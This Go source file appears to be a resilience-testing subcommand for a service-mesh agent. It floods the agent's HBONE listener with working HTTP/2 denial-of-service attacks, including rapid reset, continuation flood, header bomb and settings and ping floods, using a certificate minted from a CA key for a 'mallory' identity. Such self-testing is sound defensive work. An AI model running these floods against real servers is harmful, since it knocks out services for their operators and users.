package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"strings"
	"sync"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/culvert-mesh/culvert/identity"
	"github.com/culvert-mesh/culvert/identity/ca/issuer"
)

// attack is one way to treat an agent's HBONE listener.
type attack struct {
	name string
	// begin is what a connection starts with: nothing, TLS without a certificate, or TLS with one and the HTTP/2 preface. To
	// compare with, there is an attack without connections.
	begin opening
	// burst makes what is sent again and again; nil sends nothing.
	burst func(n uint32) []byte
}

type opening uint8

const (
	openNothing opening = iota
	openTCP
	openAnonymous
	openHTTP2
)

// How hard an attack is: so many connections, each of which is made again soon after it was closed.
const (
	attackers     = 4
	attackAgain   = 20 * time.Millisecond
	attackPause   = 2 * time.Millisecond // between bursts
	attackLasting = 5 * time.Second      // of one connection
	burstFrames   = 64
)

// attacks are the ways, most of them from the list of HTTP/2's well-known weaknesses. app is an application that requests may
// lead to.
func attacks(app netip.AddrPort) []attack {
	return []attack{
		{"nothing", openNothing, nil},
		{"tls_garbage", openTCP, func(uint32) []byte { b := make([]byte, 4096); _, _ = rand.Read(b); return b }},
		{"plaintext", openTCP, func(uint32) []byte { return []byte("GET / HTTP/1.1\r\nHost: app\r\n\r\n") }},
		{"silence", openTCP, nil},
		{"no_certificate", openAnonymous, func(uint32) []byte { return []byte(http2.ClientPreface) }},
		{"settings_flood", openHTTP2, func(uint32) []byte { return bytes.Repeat(frame(http2.FrameSettings, 0, 0, nil), burstFrames) }},
		{"ping_flood", openHTTP2, func(uint32) []byte { return bytes.Repeat(frame(http2.FramePing, 0, 0, make([]byte, 8)), burstFrames) }},
		{"rapid_reset", openHTTP2, func(n uint32) []byte { return resets(n, nowhere) }},
		{"rapid_reset_served", openHTTP2, func(n uint32) []byte { return resets(n, app.String()) }},
		{"continuation_flood", openHTTP2, func(n uint32) []byte {
			var b []byte
			if n == 0 {
				b = frame(http2.FrameHeaders, 0, 1, connectBlock(nowhere))
			}
			return append(b, bytes.Repeat(frame(http2.FrameContinuation, 0, 1, nil), burstFrames)...)
		}},
		{"empty_data_flood", openHTTP2, func(n uint32) []byte {
			var b []byte
			if n == 0 {
				b = frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, connectBlock(nowhere))
			}
			return append(b, bytes.Repeat(frame(http2.FrameData, 0, 1, nil), burstFrames)...)
		}},
		{"header_bomb", openHTTP2, func(n uint32) []byte {
			return frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1+2*n, append(connectBlock(nowhere), bombBlock()...))
		}},
		{"window_overflow", openHTTP2, func(uint32) []byte {
			return bytes.Repeat(frame(http2.FrameWindowUpdate, 0, 0, []byte{0x7f, 0xff, 0xff, 0xff}), burstFrames)
		}},
		{"oversized_frame", openHTTP2, func(uint32) []byte { return frame(http2.FrameData, 0, 1, make([]byte, 1<<15)) }},
	}
}

// nowhere is an authority that is not the pod's.
const nowhere = "10.0.0.1:1"

// resets are requests that are taken back at once.
func resets(n uint32, authority string) []byte {
	var b []byte
	for i := range uint32(burstFrames) {
		id := 1 + 2*(n*burstFrames+i)
		b = append(b, frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, id, connectBlock(authority))...)
		b = append(b, frame(http2.FrameRSTStream, 0, id, []byte{0, 0, 0, 8})...)
	}
	return b
}

func frame(t http2.FrameType, flags http2.Flags, stream uint32, payload []byte) []byte {
	b := []byte{byte(len(payload) >> 16), byte(len(payload) >> 8), byte(len(payload)), byte(t), byte(flags)}
	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
}

// connectBlock is a request.
func connectBlock(authority string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "CONNECT"}, {Name: ":authority", Value: authority}} {
		_ = e.WriteField(f) // into memory
	}
	return b.Bytes()
}

func bombBlock() []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for range 100 {
		_ = e.WriteField(hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 100)}) // into memory
	}
	return b.Bytes()
}

// attackTool attacks until it is killed. It says so when it begins.
func attackTool(args []string, out io.Writer) error {
	f := flag.NewFlagSet("attack", flag.ContinueOnError)
	cert, key := f.String("ca-cert", "", "authority that certificates come from"), f.String("ca-key", "", "its key")
	if err := f.Parse(args); err != nil {
		return err
	}
	if f.NArg() != 3 {
		return errors.New("want an attack, the listener's address and an application's behind it")
	}
	var addrs [2]netip.AddrPort
	for i := range addrs {
		var err error
		if addrs[i], err = netip.ParseAddrPort(f.Arg(1 + i)); err != nil {
			return err
		}
	}
	if err := syscall.Setpriority(syscall.PRIO_PROCESS, 0, 19); err != nil {
		return os.NewSyscallError("setpriority", err)
	}
	config, err := attackerConfig(*cert, *key)
	if err != nil {
		return err
	}
	for _, a := range attacks(addrs[1]) {
		if a.name == f.Arg(0) {
			fmt.Fprintln(out, a.name)
			a.run(addrs[0], config)
			return nil
		}
	}
	return fmt.Errorf("there is no attack %q", f.Arg(0))
}

// attackerConfig is TLS as an enrolled pod's agent speaks it.
func attackerConfig(cert, key string) (*tls.Config, error) {
	is, err := issuer.Load(cert, key)
	if err != nil {
		return nil, err
	}
	s, err := is.Fetch(context.Background(), identity.MustParse("spiffe://cluster.local/ns/default/sa/mallory"))
	if err != nil {
		return nil, err
	}
	return &tls.Config{
		Certificates: []tls.Certificate{s.TLSCertificate()}, NextProtos: []string{"h2"}, MinVersion: tls.VersionTLS13,
		InsecureSkipVerify: true, // whom it talks to is of no interest to an attacker
	}, nil
}

func (a attack) run(addr netip.AddrPort, config *tls.Config) {
	var wg sync.WaitGroup
	for range attackers {
		wg.Go(func() {
			for {
				if a.begin != openNothing {
					a.once(addr, config)
				}
				time.Sleep(attackAgain)
			}
		})
	}
	wg.Wait()
}

// once attacks on one connection until the agent has had enough of it.
func (a attack) once(addr netip.AddrPort, config *tls.Config) {
	c, err := net.DialTimeout("tcp", addr.String(), attackLasting)
	if err != nil {
		return
	}
	defer func() { _ = c.Close() }()
	_ = c.SetDeadline(time.Now().Add(attackLasting))
	switch a.begin {
	case openAnonymous:
		config = config.Clone()
		config.Certificates = nil
		c = tls.Client(c, config)
	case openHTTP2:
		c = tls.Client(c, config)
		if _, err := c.Write(append([]byte(http2.ClientPreface), frame(http2.FrameSettings, 0, 0, nil)...)); err != nil {
			return
		}
	}
	gone := make(chan struct{})
	go func() {
		defer close(gone)
		b := make([]byte, 4096)
		for {
			if _, err := c.Read(b); err != nil {
				return
			}
		}
	}()
	pause := time.NewTicker(attackPause)
	defer pause.Stop()
	for n := uint32(0); ; n++ {
		if a.burst != nil {
			if _, err := c.Write(a.burst(n)); err != nil {
				break
			}
		}
		select {
		case <-gone:
			return
		case <-pause.C:
		}
	}
	_ = c.Close()
	<-gone
}
